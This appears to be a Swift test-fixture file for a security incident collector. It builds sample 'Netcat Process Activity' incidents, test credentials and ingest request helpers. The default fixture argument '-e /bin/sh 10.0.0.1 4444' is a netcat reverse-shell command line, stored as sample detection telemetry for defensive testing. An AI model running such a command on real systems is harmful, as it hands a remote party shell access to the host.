import CollectorStorage
import CompressNIO
import ExecEvents
import Hummingbird
import HummingbirdTesting
import Logging
import NIOCore
import RuleEngine
import TestSupport
import Testing

@testable import Collector

#if canImport(Glibc)
import Glibc
#endif

/// Incidents and request bodies for tests.
enum Fixtures {
    static let ruleId = "PH_Rule_TH_Linux_23"
    static let baseTime = EventTime(rfc3339: "2026-11-28T10:00:00.123Z")!

    static func incident(
        host: String = "web-1",
        ruleId: String = Fixtures.ruleId,
        user: String = "alice",
        swParam: String = "-e /bin/sh 10.0.0.1 4444",
        version: Int64 = 1,
        count: Int64 = 1,
        lastSeen: EventTime = Fixtures.baseTime
    ) -> Incident {
        let attributes = [
            IncidentAttribute(name: "hostName", value: .string(host)),
            IncidentAttribute(name: "user", value: .string(user)),
            IncidentAttribute(name: "procName", value: .string("nc")),
            IncidentAttribute(name: "swParam", value: .string(swParam)),
        ]
        let event = ExecEvent(
            eventTime: lastSeen,
            hostName: host,
            user: user,
            procName: "nc",
            swParam: swParam,
            procId: 4242,
            exePath: "/usr/bin/nc.openbsd",
            args: ArgumentVector([Array("nc".utf8)] + swParam.split(separator: " ").map { Array($0.utf8) })
        )
        return Incident(
            incidentId: IncidentID(
                ruleId: ruleId,
                hostName: host,
                groupValues: [("user", .string(user)), ("swParam", .string(swParam))]
            ),
            ruleId: ruleId,
            ruleName: "Linux: Netcat Process Activity",
            incidentType: "PH_RULE_TH_LINUX_23",
            severity: 7,
            category: "Security",
            tactics: ["Execution"],
            techniques: ["T1059.004"],
            hostName: host,
            attributes: attributes,
            count: count,
            firstSeen: baseTime,
            lastSeen: lastSeen,
            version: version,
            agentId: "agent-\(host)",
            triggerEvents: [event]
        )
    }

    /// The JSON array an agent sends.
    static func jsonArray(_ incidents: [Incident]) -> String {
        "[" + incidents.map(\.jsonLine).joined(separator: ",") + "]"
    }

    static func gzip(_ bytes: [UInt8]) throws -> ByteBuffer {
        var buffer = ByteBuffer(bytes: bytes)
        return try buffer.compress(with: .gzip())
    }

    /// One incident JSON object with `edit` applied to its members.
    static func incidentObject(_ edit: (inout [(String, JSONValue)]) -> Void) throws -> String {
        guard case .object(var members) = try JSONValue.parse(incident().jsonLine) else {
            throw TestFailure("not an object")
        }
        edit(&members)
        var json = JSONWriter()
        write(.object(members), to: &json)
        return String(decoding: json.bytes, as: UTF8.self)
    }

    static func write(_ value: JSONValue, to json: inout JSONWriter) {
        switch value {
        case .null: json.null()
        case .bool(let flag): json.bool(flag)
        case .integer(let number): json.integer(number)
        case .number(let number): json.raw(Array(String(number).utf8))
        case .string(let text): json.string(text)
        case .array(let elements):
            json.beginArray()
            for element in elements { write(element, to: &json) }
            json.endArray()
        case .object(let members):
            json.beginObject()
            for (key, member) in members {
                json.key(key)
                write(member, to: &json)
            }
            json.endObject()
        }
    }
}

/// A collector over a fresh SQLite store (through `CollectorStores.open`) in a temporary
/// directory, with one agent `web-1` and one reader `ops`, and their tokens.
struct TestCollector: Sendable {
    static let agentName = "web-1"
    static let readerName = "ops"

    let directory: TemporaryDirectory
    let configuration: CollectorConfiguration
    let store: any CollectorStore
    let metrics: CollectorMetrics
    /// The agent's token.
    let token: String
    let readerToken: String

    static func make(_ configure: (inout CollectorConfiguration) -> Void = { _ in }) async throws -> TestCollector {
        let directory = try TemporaryDirectory()
        var configuration = CollectorConfiguration()
        configuration.stateDirectory = directory.path
        configure(&configuration)
        var logger = Logger(label: "collector-tests")
        logger.logLevel = .critical
        let store = try await CollectorStores.open(url: "", stateDirectory: directory.path, logger: logger)
        let token = try await add(.agent, agentName, to: store)
        let readerToken = try await add(.reader, readerName, to: store)
        return TestCollector(
            directory: directory,
            configuration: configuration,
            store: store,
            metrics: CollectorMetrics(),
            token: token,
            readerToken: readerToken
        )
    }

    /// Adds a credential; its token.
    @discardableResult
    static func add(_ role: CredentialRole, _ name: String, to store: any CollectorStore) async throws -> String {
        let token = CredentialToken.generate()
        try await store.addCredential(
            Credential(name: name, role: role, tokenHash: CredentialToken.hash(token), createdAt: .now)
        )
        return token
    }

    /// Runs `body` against the application (no socket), then closes the store.
    func test<Value: Sendable>(
        _ body: @Sendable (any TestClientProtocol) async throws -> Value
    ) async throws -> Value {
        var logger = Logger(label: "collector-tests")
        logger.logLevel = .critical
        let server = CollectorServer(configuration: configuration, store: store, metrics: metrics, logger: logger)
        let application = try server.makeApplication()
        do {
            let value = try await application.test(.router, body)
            try await store.close()
            return value
        } catch {
            try? await store.close()
            throw error
        }
    }

    /// The agent's token as bearer token.
    var bearer: HTTPFields { [.authorization: "Bearer \(token)"] }
    /// The reader's token as bearer token.
    var readerBearer: HTTPFields { [.authorization: "Bearer \(readerToken)"] }

    /// Headers of an ingest request: JSON, the agent's token, and `extra`.
    func ingestHeaders(_ extra: HTTPFields = [:]) -> HTTPFields {
        var headers: HTTPFields = [.contentType: "application/json", .authorization: "Bearer \(token)"]
        headers.append(contentsOf: extra)
        return headers
    }
}

extension TestClientProtocol {
    /// POSTs `body` to the ingest endpoint.
    func ingest(_ body: String, headers: HTTPFields) async throws -> TestResponse {
        try await execute(uri: "/api/v1/incidents", method: .post, headers: headers, body: ByteBuffer(string: body))
    }
}

extension TestResponse {
    var text: String { String(buffer: body) }

    /// The body as JSON.
    var json: JSONValue {
        get throws { try JSONValue.parse(text) }
    }

    /// `error` of a `{"error":"…"}` reply.
    var errorReason: String? {
        guard case .string(let reason) = try? json["error"] else { return nil }
        return reason
    }
}

extension JSONValue {
    var integerValue: Int64? {
        if case .integer(let number) = self { return number }
        return nil
    }

    var stringValue: String? {
        if case .string(let text) = self { return text }
        return nil
    }

    var arrayValue: [JSONValue]? {
        if case .array(let elements) = self { return elements }
        return nil
    }
}
